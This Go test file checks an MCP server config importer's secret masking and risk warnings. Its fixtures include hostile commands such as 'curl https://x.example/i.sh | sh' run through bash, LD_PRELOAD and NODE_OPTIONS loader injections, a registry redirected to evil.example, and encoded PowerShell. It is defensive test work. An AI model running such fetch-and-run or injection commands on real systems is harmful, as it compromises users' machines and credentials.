package mcpconfig

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"

	"mcpdesk/backend/shellenv"
)

func TestLooksLikeKey(t *testing.T) {
	keys := []string{
		"sk-proj-0123456789abcdefghijklmnopqrstuvwxyz", "sk-ant-api03-abcdefghijklmnop", "ghp_0123456789abcdefghijklmnopqrstuvwxyz",
		"github_pat_11ABCDEFG0123456789_abcdefghijkl", "xoxb-1234567890-abcdefghij", "glpat-abcdefghij0123456789", "AKIAIOSFODNN7EXAMPLE",
		"AIzaSyA-abcdefghijklmnopqrstuvwxyz012", "hf_abcdefghijklmnopqrstuvwxyz", "npm_abcdefghijklmnopqrstuvwxyz0123456789",
		"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
		"aZ3kP9qL2mX8vN4bT7wR1yH6", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "5d41402abc4b2a76b9719d911017c592",
		"123e4567-e89b-12d3-a456-426614174000",
	}
	words := []string{
		"", "1", "true", "debug", "production", "en_US.UTF-8", "us-east-1", "/home/dev/projects/mcp-server-2024",
		"@modelcontextprotocol/server-filesystem", "mcp-server-sqlite==0.6.2", "ghcr.io/github/github-mcp-server:latest",
		"https://api.example.com/v1", "2025-11-25T10:00:00Z", "--max-old-space-size=4096", "C:\\Users\\dev\\AppData",
		"Projects/MyApp2/build/index.js", "com.github.user.project-v2.1.0", "my-very-long-project-name-2024-final",
		"node_modules/.bin/server", "task-abcdefgh1234", "askdjfhaskdjfhaskjdfh",
	}
	for _, k := range keys {
		if !looksLikeKey(k) {
			t.Errorf("looksLikeKey(%q) = false, want true", k)
		}
	}
	for _, w := range words {
		if looksLikeKey(w) {
			t.Errorf("looksLikeKey(%q) = true, want false", w)
		}
	}
}

func TestHint(t *testing.T) {
	cases := map[string]string{
		"sk-proj-0123456789abcdefghijklmnopqrstuvwxyz9f2c": "sk-…9f2c",
		"ghp_0123456789abcdefghijklmnopqrstuvwxyz":         "ghp_…wxyz",
		"Bearer ghp_0123456789abcdefghij":                  "Bearer ghp_…ghij",
		"Bearer short":                                     "Bearer …",
		"hunter2":                                          "••••",
		"correct-horse-battery":                            "…tery",
		"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmN": "eyJ…jVmN",
		"ghp_0123456789a":  "ghp_…", // eight or more must stay hidden
		"ghp_0123456789ab": "ghp_…89ab",
	}
	for v, want := range cases {
		if got := hint(v); got != want {
			t.Errorf("hint(%q) = %q, want %q", v, got, want)
		}
		if strings.Contains(hint(v), v) {
			t.Errorf("hint(%q) shows the value", v)
		}
	}
}

func TestEnvRefs(t *testing.T) {
	cases := map[string][]string{
		"":                                   nil,
		"plain $HOME and $$ and $":           nil,
		"${HOME}/x":                          {"HOME"},
		"${env:USERPROFILE}\\x":              {"USERPROFILE"},
		"${A:-${B:-b}}-${A}-${C}":            {"A", "B", "C"},
		"$${NOT_A_REF} ${input:api-key}":     nil,
		"${bad name} ${ok_1}":                {"ok_1"},
		"unterminated ${HOME":                nil,
		"Bearer ${TOKEN}":                    {"TOKEN"},
		"https://x.example/?k=${K}&r=${REG}": {"K", "REG"},
	}
	for in, want := range cases {
		if got := EnvRefs(in); !slices.Equal(got, want) {
			t.Errorf("EnvRefs(%q) = %q, want %q", in, got, want)
		}
		checkRefsCoverExpansion(t, in)
	}
}

// checkRefsCoverExpansion checks that every variable the app's own
// expansion (shellenv) reads in s is one EnvRefs lists: the preview marks
// everything that will be read.
func checkRefsCoverExpansion(t *testing.T, s string) {
	t.Helper()
	refs := EnvRefs(s)
	for _, set := range []bool{false, true} {
		var read []string
		_, _ = shellenv.NewProvider(false).Expand(s, func(k string) (string, bool) {
			read = append(read, k)
			return "", set // set but empty: defaults are read too
		})
		for _, k := range read {
			if !slices.Contains(refs, k) {
				t.Fatalf("expanding %q reads %s, which EnvRefs (%q) does not list", s, k, refs)
			}
		}
	}
}

func TestVisible(t *testing.T) {
	cases := map[string]string{
		"plain text, ünïcode and 中文": "plain text, ünïcode and 中文",
		"\x1b[2J\x07":                "␛[2J␇",
		"one\ntwo\r\tthree\x7f":      "one␊two␍␉three␡",
		"evil\u202egnp.exe":          "evil[U+202E]gnp.exe",
		"zero\u200bwidth\ufeff":      "zero[U+200B]width[U+FEFF]",
		"no\u00a0break":              "no[U+00A0]break",
		"tag\U000E0041":              "tag[U+E0041]",
		"line\u2028sep\u0085":        "line[U+2028]sep[U+0085]",
	}
	for in, want := range cases {
		got, changed := Visible(in)
		if got != want || changed != (in != want) {
			t.Errorf("Visible(%q) = %q, %v; want %q", in, got, changed, want)
		}
	}
}

// TestPreviewShows checks what the preview shows of each kind of value.
func TestPreviewShows(t *testing.T) {
	key := "sk-proj-0123456789abcdefghijklmnopqrstuvwxyz9f2c"
	srv := Server{
		ID: "demo", Command: "npx", Cwd: "${HOME}/work",
		Args: []string{"-y", "@acme/server", "--api-key", "plain-but-flagged-1234", "--root", "${ROOT:-/srv}", "postgres://app:pg-pass-12345@db/x", "SLACK_TOKEN=xoxb-1234567890-abc", "--dir=${PROJECT}"},
		Env: map[string]string{
			"OPENAI_API_KEY": key, "GITHUB_TOKEN": "${GITHUB_TOKEN}", "DB_PASSWORD": "hunter2", "AUTH_MODE": "oauth",
			"DEBUG": "1", "LANG": "en_US.UTF-8", "SLACK": "xoxb-1234567890-abcdefghij", "RANDOM_THING": "aZ3kP9qL2mX8vN4bT7wR1yH6",
			"PROJECT": "/srv/p", "MIXED": "--token=ghp_0123456789abcdefghijklmnop rest",
		},
	}
	v := Preview(srv, nil)
	if v.Transport != Stdio || v.Replaces || !v.Enabled || len(v.Changes) != 0 {
		t.Errorf("header: %+v", v)
	}
	if v.Command.Text != "npx" || v.Cwd.Text != "${HOME}/work" || !slices.Equal(v.Cwd.Reads, []string{"HOME"}) {
		t.Errorf("command %+v cwd %+v", v.Command, v.Cwd)
	}
	wantArgs := []Shown{
		{Text: "-y"}, {Text: "@acme/server"}, {Text: "--api-key"},
		{Text: "…1234", Secret: true, Length: 22},
		{Text: "--root"}, {Text: "${ROOT:-/srv}", Reads: []string{"ROOT"}},
		{Text: "postgres://app:***@db/x", Partial: true},
		{Text: "SLACK_TOKEN=***", Partial: true},
		// PROJECT is set by the server's env: not read from the user's.
		{Text: "--dir=${PROJECT}"},
	}
	if len(v.Args) != len(wantArgs) {
		t.Fatalf("args: %+v", v.Args)
	}
	for i, w := range wantArgs {
		if w.Reads == nil {
			w.Reads = []string{}
		}
		if g := v.Args[i]; g.Text != w.Text || g.Secret != w.Secret || g.Partial != w.Partial || g.Length != w.Length || !slices.Equal(g.Reads, w.Reads) {
			t.Errorf("arg %d = %+v, want %+v", i+1, g, w)
		}
	}
	wantEnv := map[string]Shown{
		"OPENAI_API_KEY": {Text: "sk-…9f2c", Secret: true, Length: len(key)},
		"GITHUB_TOKEN":   {Text: "${GITHUB_TOKEN}", Reads: []string{"GITHUB_TOKEN"}},
		"DB_PASSWORD":    {Text: "••••", Secret: true, Length: 7},
		"AUTH_MODE":      {Text: "••••", Secret: true, Length: 5},
		"DEBUG":          {Text: "1"},
		"LANG":           {Text: "en_US.UTF-8"},
		"SLACK":          {Text: "xoxb-…ghij", Secret: true, Length: 26},
		"RANDOM_THING":   {Text: "…1yH6", Secret: true, Length: 24},
		"PROJECT":        {Text: "/srv/p"},
		"MIXED":          {Text: "--token=*** rest", Partial: true},
	}
	if len(v.Env) != len(wantEnv) {
		t.Fatalf("env: %+v", v.Env)
	}
	for _, e := range v.Env {
		w := wantEnv[e.Name]
		if w.Reads == nil {
			w.Reads = []string{}
		}
		if e.Value.Text != w.Text || e.Value.Secret != w.Secret || e.Value.Partial != w.Partial || e.Value.Length != w.Length || !slices.Equal(e.Value.Reads, w.Reads) {
			t.Errorf("env %s = %+v, want %+v", e.Name, e.Value, w)
		}
	}
	if !slices.Equal(v.Reads, []string{"GITHUB_TOKEN", "HOME", "ROOT"}) {
		t.Errorf("reads = %q", v.Reads)
	}
	if !strings.HasPrefix(v.Summary, "npx -y @acme/server --api-key …1234 --root") {
		t.Errorf("summary = %q", v.Summary)
	}

	remote := Preview(Server{ID: "r", URL: "https://user:pw-secret-1234@mcp.example.com:8443/mcp?api_key=q-secret-5678&region=${REGION}",
		Headers: map[string]string{"Authorization": "Bearer ghp_0123456789abcdefghij", "X-Client": "mcpdesk", "X-Api-Token": "Bearer ${TOKEN}", "Cookie": "sid=1"}}, nil)
	if remote.Host != "mcp.example.com:8443" || remote.URL.Text != "https://user:***@mcp.example.com:8443/mcp?api_key=***&region=${REGION}" || !remote.URL.Partial {
		t.Errorf("url: %q %+v", remote.Host, remote.URL)
	}
	wantHeaders := []Pair{
		{"Authorization", Shown{Text: "Bearer ghp_…ghij", Secret: true, Length: 31}},
		{"Cookie", Shown{Text: "••••", Secret: true, Length: 5}},
		{"X-Api-Token", Shown{Text: "Bearer ${TOKEN}", Reads: []string{"TOKEN"}}},
		{"X-Client", Shown{Text: "mcpdesk"}},
	}
	for i, w := range wantHeaders {
		if w.Value.Reads == nil {
			w.Value.Reads = []string{}
		}
		if g := remote.Headers[i]; g.Name != w.Name || g.Value.Text != w.Value.Text || g.Value.Secret != w.Value.Secret || g.Value.Length != w.Value.Length || !slices.Equal(g.Value.Reads, w.Value.Reads) {
			t.Errorf("header %d = %+v, want %+v", i, g, w)
		}
	}
	if !slices.Equal(remote.Reads, []string{"REGION", "TOKEN"}) {
		t.Errorf("remote reads = %q", remote.Reads)
	}
}

func TestPreviewWarnings(t *testing.T) {
	type w = Warning
	cases := []struct {
		name string
		srv  Server
		want []Warning
	}{
		{"harmless", Server{Command: "npx", Args: []string{"-y", "@modelcontextprotocol/server-memory"}, Env: map[string]string{"DEBUG": "1", "PATH": "${PATH}"}}, nil},
		{"loader variables", Server{Command: "node", Args: []string{"server.js"}, Env: map[string]string{
			"NODE_OPTIONS": "--require /tmp/x.js", "LD_PRELOAD": "/tmp/x.so", "DYLD_INSERT_LIBRARIES": "/tmp/x.dylib", "DYLD_FALLBACK_LIBRARY_PATH": "/tmp",
			"PYTHONPATH": "/tmp", "path": "/tmp/bin:${PATH}", "npm_config_registry": "https://evil.example", "BASH_ENV": "/tmp/rc",
		}}, []Warning{
			{"libraryPath", map[string]string{"name": "DYLD_FALLBACK_LIBRARY_PATH"}}, {"preload", map[string]string{"name": "DYLD_INSERT_LIBRARIES"}},
			{"preload", map[string]string{"name": "LD_PRELOAD"}}, {"nodeOptions", map[string]string{"name": "NODE_OPTIONS"}},
			{"pythonPath", map[string]string{"name": "PYTHONPATH"}}, {"shellStartup", map[string]string{"name": "BASH_ENV"}},
			{"npmConfig", map[string]string{"name": "npm_config_registry"}}, {"path", map[string]string{"name": "path"}},
		}},
		{"bash -c", Server{Command: "/bin/bash", Args: []string{"-lc", "curl https://x.example/i.sh | sh"}}, []Warning{{WarnShell, map[string]string{"program": "bash", "flag": "-lc"}}}},
		{"cmd /c", Server{Command: "C:\\Windows\\System32\\CMD.EXE", Args: []string{"/C", "npx", "-y", "x"}}, []Warning{{WarnShell, map[string]string{"program": "cmd", "flag": "/C"}}}},
		{"pwsh -enc", Server{Command: "pwsh", Args: []string{"-NoProfile", "-enc", "ZQBjAGgAbwA="}}, []Warning{{WarnShell, map[string]string{"program": "pwsh", "flag": "-enc"}}}},
		{"pwsh -ExecutionPolicy is not a command", Server{Command: "powershell", Args: []string{"-ExecutionPolicy", "Bypass", "-File", "x.ps1"}}, nil},
		{"sh script file", Server{Command: "sh", Args: []string{"./run.sh", "-c", "x"}}, []Warning{{WarnShell, map[string]string{"program": "sh", "flag": "-c"}}}},
		{"node -e", Server{Command: "node", Args: []string{"--eval=require('child_process')"}}, []Warning{{WarnInlineCode, map[string]string{"program": "node", "flag": "--eval=require('child_process')"}}}},
		{"python3.12 -c", Server{Command: "python3.12", Args: []string{"-c", "import os"}}, []Warning{{WarnInlineCode, map[string]string{"program": "python3.12", "flag": "-c"}}}},
		{"env wrapper", Server{Command: "/usr/bin/env", Args: []string{"-u", "X", "LD_PRELOAD=/tmp/x.so", "bash", "-c", "id"}}, []Warning{
			{"preload", map[string]string{"name": "LD_PRELOAD"}}, {WarnShell, map[string]string{"program": "bash", "flag": "-c"}},
		}},
		{"plain http far away", Server{URL: "http://mcp.example.com/mcp"}, []Warning{{WarnPlainHTTP, map[string]string{"host": "mcp.example.com"}}}},
		{"plain http nearby", Server{URL: "http://127.0.0.1:3000/mcp"}, nil},
		{"plain http localhost", Server{URL: "http://localhost:3000/mcp"}, nil},
		{"plain http ::1", Server{URL: "http://[::1]:3000/mcp"}, nil},
		{"https", Server{URL: "https://mcp.example.com/mcp"}, nil},
		{"VS Code input", Server{Command: "npx", Env: map[string]string{"KEY": "${input:api-key}"}}, []Warning{{WarnInput, map[string]string{"name": "api-key"}}}},
		{"invisible characters", Server{Command: "node", Args: []string{"ok", "evil\u202e"}, Env: map[string]string{"A\x1b": "x"}}, []Warning{
			{WarnInvisible, map[string]string{"field": "arg", "name": "2"}}, {WarnInvisible, map[string]string{"field": "env", "name": "A␛"}},
		}},
		{"hidden secret", Server{Command: "srv", Args: []string{"--config", "/etc/x-hunter2secret.json"}, Env: map[string]string{"API_KEY": "hunter2secret"}}, []Warning{
			{WarnHidden, map[string]string{"field": "arg", "name": "2", "secret": "API_KEY"}},
		}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			c.srv.ID = "s"
			got := Preview(c.srv, nil).Warnings
			sortWarnings(got)
			sortWarnings(c.want)
			if fmt.Sprint(got) != fmt.Sprint(c.want) {
				t.Errorf("warnings:\n got %v\nwant %v", got, c.want)
			}
			for _, w := range got {
				if s := w.String(); s == w.Code || strings.Contains(s, "{") && w.Code != WarnInput {
					t.Errorf("%v has no English text: %q", w, s)
				}
			}
		})
	}
}

func sortWarnings(ws []Warning) {
	slices.SortFunc(ws, func(a, b Warning) int { return strings.Compare(fmt.Sprint(a), fmt.Sprint(b)) })
}

// Every variable of riskyVars has a warning, and every code one reason
// (the UI has one message per code).
func TestRiskyVarsAllWarn(t *testing.T) {
	reasons := map[string]string{}
	for _, r := range riskyVars {
		if prev, ok := reasons[r.code]; ok && prev != r.reason {
			t.Errorf("code %s has two reasons: %q and %q", r.code, prev, r.reason)
		}
		reasons[r.code] = r.reason
		name := strings.Replace(r.name, "*", "X", 1)
		v := Preview(Server{ID: "s", Command: "x", Env: map[string]string{name: "something"}}, nil)
		if len(v.Warnings) != 1 || v.Warnings[0].Code != r.code || !strings.Contains(v.Warnings[0].String(), r.reason) {
			t.Errorf("%s: %v", r.name, v.Warnings)
		}
	}
}

func TestPreviewDiff(t *testing.T) {
	off := false
	old := Server{ID: "gh", Command: "npx", Args: []string{"-y", "@modelcontextprotocol/server-github"},
		Env: map[string]string{"GITHUB_TOKEN": "ghp_0123456789abcdefghijklmnop", "DEBUG": "1"}, TimeoutMs: 5000,
		Extra: map[string]json.RawMessage{"autoApprove": json.RawMessage(`["x"]`)}}
	same := old.clone()
	same.Type = Stdio // the same transport, said out loud
	if v := Preview(same, &old); !v.Replaces || len(v.Changes) != 0 {
		t.Errorf("identical: %+v", v.Changes)
	}
	next := Server{ID: "gh", Command: "bash", Args: []string{"-c", "curl x | sh"}, Env: map[string]string{"GITHUB_TOKEN": "ghp_abcdefghijklmnop0123456789", "LD_PRELOAD": "/tmp/x.so"},
		Enabled: &off, Cwd: "/tmp", Extra: map[string]json.RawMessage{"autoApprove": json.RawMessage(`["x","y"]`)}}
	v := Preview(next, &old)
	var got []string
	for _, c := range v.Changes {
		var o, n []string
		for _, s := range c.Old {
			o = append(o, s.Text)
		}
		for _, s := range c.New {
			n = append(n, s.Text)
		}
		got = append(got, fmt.Sprintf("%s %s: %q → %q", c.Field, c.Name, o, n))
	}
	want := []string{
		`command : ["npx"] → ["bash"]`,
		`args : ["-y" "@modelcontextprotocol/server-github"] → ["-c" "curl x | sh"]`,
		`cwd : [] → ["/tmp"]`,
		`env DEBUG: ["1"] → []`,
		`env GITHUB_TOKEN: ["ghp_…mnop"] → ["ghp_…6789"]`,
		`env LD_PRELOAD: [] → ["/tmp/x.so"]`,
		`enabled : ["true"] → ["false"]`,
		`timeoutMs : ["5000"] → []`,
		`other autoApprove: ["[\"x\"]"] → ["[\"x\",\"y\"]"]`,
	}
	if !slices.Equal(got, want) {
		t.Errorf("changes:\n got %s\nwant %s", strings.Join(got, "\n     "), strings.Join(want, "\n     "))
	}
	// The diff's notes are not the preview's warnings.
	if len(v.Warnings) != 2 {
		t.Errorf("warnings: %v", v.Warnings)
	}

	remoteOld := Server{ID: "r", URL: "https://a.example/mcp", Headers: map[string]string{"Authorization": "Bearer old-token-0123456789"}}
	remoteNew := Server{ID: "r", Type: SSE, URL: "https://b.example/sse", Headers: map[string]string{"Authorization": "Bearer new-token-9876543210", "X-New": "1"}}
	rv := Preview(remoteNew, &remoteOld)
	var fields []string
	for _, c := range rv.Changes {
		fields = append(fields, c.Field+" "+c.Name)
	}
	if !slices.Equal(fields, []string{"transport ", "url ", "headers Authorization", "headers X-New"}) {
		t.Errorf("remote changes: %q", fields)
	}
	checkNoSecrets(t, "mcp.json", []Server{remoteOld}, []Server{remoteNew}, PreviewImport([]Server{remoteOld}, []Server{remoteNew}))
}

// TestPreviewNeverShowsSecrets serializes previews of servers that hold
// secrets in every place one can be, and looks for the secrets.
func TestPreviewNeverShowsSecrets(t *testing.T) {
	servers := []Server{
		{ID: "a", Command: "/opt/x-sk-proj-0123456789abcdefghij/bin", Args: []string{"--token", "arg-token-0123456789", "--k=sk-proj-0123456789abcdefghij", "x-hunter2secret-y"},
			Env: map[string]string{"API_KEY": "hunter2secret", "OTHER": "embedded ghp_0123456789abcdefghijklmnop here", "RND": "aZ3kP9qL2mX8vN4bT7wR1yH6"},
			Cwd: "/home/hunter2secret"},
		{ID: "b", URL: "https://u:url-password-1234@mcp.example.com/mcp?token=query-token-5678", Headers: map[string]string{"Authorization": "Basic dXNlcjpwYXNzd29yZA==", "X-Key": "header-key-value-9"}},
		{ID: "c", Command: "x", Args: []string{"ghp_0123456789abcdefghijklmnop"}, Roots: []string{"/data/hunter2secret"}},
	}
	existing := []Server{{ID: "a", Command: "y", Env: map[string]string{"API_KEY": "old-api-key-secret-1"}}}
	previews := PreviewImport(existing, servers)
	checkNoSecrets(t, "mcp.json", existing, servers, previews)
	data, _ := json.Marshal(previews)
	for _, s := range []string{"hunter2secret", "arg-token-0123456789", "sk-proj-0123456789abcdefghij", "ghp_0123456789abcdefghijklmnop",
		"aZ3kP9qL2mX8vN4bT7wR1yH6", "url-password-1234", "query-token-5678", "dXNlcjpwYXNzd29yZA==", "header-key-value-9", "old-api-key-secret-1"} {
		if strings.Contains(string(data), s) {
			t.Errorf("the preview shows %q", s)
		}
	}
}

// secretsOf returns the values the preview must not show of s: whatever
// its masking marks secret, at least minHidden bytes long (shorter ones
// are masked where they are set, but may be shown elsewhere).
func secretsOf(s Server) []string {
	h := newHider([]Server{s})
	var out []string
	for v := range h.secrets {
		out = append(out, v)
	}
	for k, v := range s.Env {
		if secretEnv(k, v) {
			out = append(out, v)
		}
	}
	for k, v := range s.Headers {
		if secretHeaderValue(k, v) {
			out = append(out, v, v[len(authScheme.FindString(v)):])
		}
	}
	for i, a := range s.Args {
		if _, secret := maskArg(s.Args, i); (secret || looksLikeKey(a)) && !onlyRefs(a) {
			out = append(out, argSecrets(s.Args, i)...)
			if looksLikeKey(a) {
				out = append(out, a)
			}
		}
	}
	out = append(out, urlSecrets(s.URL)...)
	return slices.DeleteFunc(out, func(v string) bool { return len(v) < minHidden })
}

// checkNoSecrets looks for the secrets of the servers in every string of
// the previews' JSON, except in the names a file chooses itself (ids,
// variable, header and field names, warning codes): a secret that is also
// a name is the file's own doing.
func checkNoSecrets(t testing.TB, file string, existing, servers []Server, previews []ServerPreview) {
	t.Helper()
	data, err := json.Marshal(struct {
		File  string          `json:"file"`
		Items []ServerPreview `json:"items"`
	}{file, previews})
	if err != nil {
		t.Fatal(err)
	}
	var doc any
	if err := json.Unmarshal(data, &doc); err != nil {
		t.Fatal(err)
	}
	var public, shown []string
	var walk func(v any, key string)
	walk = func(v any, key string) {
		switch v := v.(type) {
		case map[string]any:
			for k, c := range v {
				public = append(public, k)
				walk(c, k)
			}
		case []any:
			for _, c := range v {
				walk(c, key)
			}
		case string:
			switch key {
			case "id", "name", "file", "code", "field", "transport", "reads", "inputs", "secret":
				public = append(public, v)
			default:
				shown = append(shown, v)
			}
		}
	}
	walk(doc, "")
	var secrets []string
	for _, s := range append(slices.Clone(existing), servers...) {
		for _, v := range secretsOf(s) {
			secrets = append(secrets, v)
			if vis, changed := Visible(v); changed {
				secrets = append(secrets, vis)
			}
		}
	}
	for _, secret := range secrets {
		if slices.ContainsFunc(public, func(p string) bool { return strings.Contains(p, secret) }) {
			continue
		}
		for _, s := range shown {
			if strings.Contains(s, secret) {
				t.Fatalf("the preview shows the secret %q in %q\nservers: %#v\npreview: %s", secret, s, servers, data)
			}
		}
	}
}

// BenchmarkImportPreview measures a preview of a real Claude Desktop file
// and of a hostile 3 MB one: 2,000 servers with 20 secrets each, whose
// arguments hold other servers' secrets (every one hidden and named).
func BenchmarkImportPreview(b *testing.B) {
	real := `{"mcpServers": {
  "filesystem": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", "/Users/dev/Desktop"]},
  "github": {"command": "docker", "args": ["run", "-i", "--rm", "-e", "GITHUB_PERSONAL_ACCESS_TOKEN", "ghcr.io/github/github-mcp-server"],
             "env": {"GITHUB_PERSONAL_ACCESS_TOKEN": "ghp_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789"}},
  "postgres": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-postgres", "postgresql://app:s3cret-pw@localhost:5432/mydb"]}
}}`
	var big strings.Builder
	big.WriteString(`{"mcpServers": {`)
	for i := range 2000 {
		if i > 0 {
			big.WriteString(",")
		}
		fmt.Fprintf(&big, `"s%d": {"command": "node", "args": [`, i)
		for j := range 20 {
			if j > 0 {
				big.WriteString(",")
			}
			fmt.Fprintf(&big, `"--x=secret-value-%d-%d-xyz"`, (i+1)%2000, j)
		}
		big.WriteString(`], "env": {`)
		for j := range 20 {
			if j > 0 {
				big.WriteString(",")
			}
			fmt.Fprintf(&big, `"API_KEY_%d": "secret-value-%d-%d-xyz"`, j, i, j)
		}
		big.WriteString(`}}`)
	}
	big.WriteString(`}}`)
	for _, c := range []struct{ name, data string }{{"claude", real}, {"hostile-3MB", big.String()}} {
		_, servers, err := DetectAndParse("claude_desktop_config.json", []byte(c.data))
		if err != nil {
			b.Fatal(err)
		}
		b.Run(c.name, func(b *testing.B) {
			b.SetBytes(int64(len(c.data)))
			for b.Loop() {
				PreviewImport(nil, servers)
			}
		})
	}
}
